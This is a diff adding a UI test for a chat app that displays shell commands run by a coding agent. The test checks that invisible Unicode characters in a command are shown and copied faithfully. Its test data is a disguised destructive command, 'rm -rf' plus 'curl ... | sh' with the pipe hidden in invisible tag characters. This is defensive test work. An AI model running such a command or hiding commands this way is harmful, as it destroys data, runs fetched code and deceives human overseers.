@@ -175,3 +175,42 @@ def test_a_run_of_controls_is_one_marker_and_a_text_draws_a_bounded_number_of_th
     row.get_by_test_id("shell-command-copy").click()
     expect(row.get_by_test_id("shell-command-copy")).to_have_attribute("data-copied", "true")
     assert chat.page.evaluate("navigator.clipboard.readText()") == alternating
+
+
+def tags(text: str) -> str:
+    """`text` spelled in tag characters (U+E0000 + ASCII), which draw nothing."""
+    return "".join(chr(0xE0000 + ord(c)) for c in text)
+
+
+def test_invisible_characters_in_a_command_and_its_work_dir_are_shown_and_copied_as_they_are(
+        stack: Stack, api: Api, chat: ChatPage) -> None:
+    # Each of these drew nothing (or a space) where it was: the row showed another command
+    # than the one that ran.
+    command = f"rm -rf /tmp/build\u200b /\u2060home curl x{tags('|sh')} && ls\rpwd\u00ad"
+    work_dir = "/srv/\ufeffapp\u2028x"
+    session = api.new_session("codex")
+    api.start_turn(session["id"])
+    call = unique("call")
+    message_id = api.play(session["id"], [codex_start(call, command, work_dir=work_dir),
+                                          codex_end(call, "", 0)])
+    tool_id = api.play(session["id"], [{
+        "sessionUpdate": "tool_call", "toolCallId": unique("read"), "kind": "read",
+        "title": "Read 👩\u200d💻 notes", "status": "completed"}])
+    chat.open(f"{stack.rest_url}/?session={session['id']}")
+
+    row = chat.shell_row(message_id)
+    expect(row.get_by_test_id("shell-command")).to_have_text(
+        "rm -rf /tmp/build⟨U+200B⟩ /⟨U+2060⟩home curl x⟨U+E007C U+E0073 U+E0068⟩ && ls⟨U+000D⟩"
+        "pwd⟨U+00AD⟩")
+    expect(row.get_by_test_id("shell-command").locator(".bidi-control").nth(2)).to_have_attribute(
+        "title", re.compile("TAG '\\|', TAG 's', TAG 'h'"))
+    expect(row.get_by_test_id("shell-workdir")).to_have_text("/srv/⟨U+FEFF⟩app⟨U+2028⟩x")
+    # A title keeps its joiners: an emoji sequence (and scripts that need them) join with them.
+    title = chat.page.locator(f'[data-testid=tool-call-row][data-message-id="{tool_id}"]'
+                              ).get_by_test_id("tool-call-title")
+    expect(title).to_have_text("Read 👩\u200d💻 notes")
+
+    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    row.get_by_test_id("shell-command-copy").click()
+    expect(row.get_by_test_id("shell-command-copy")).to_have_attribute("data-copied", "true")
+    assert chat.page.evaluate("navigator.clipboard.readText()") == command
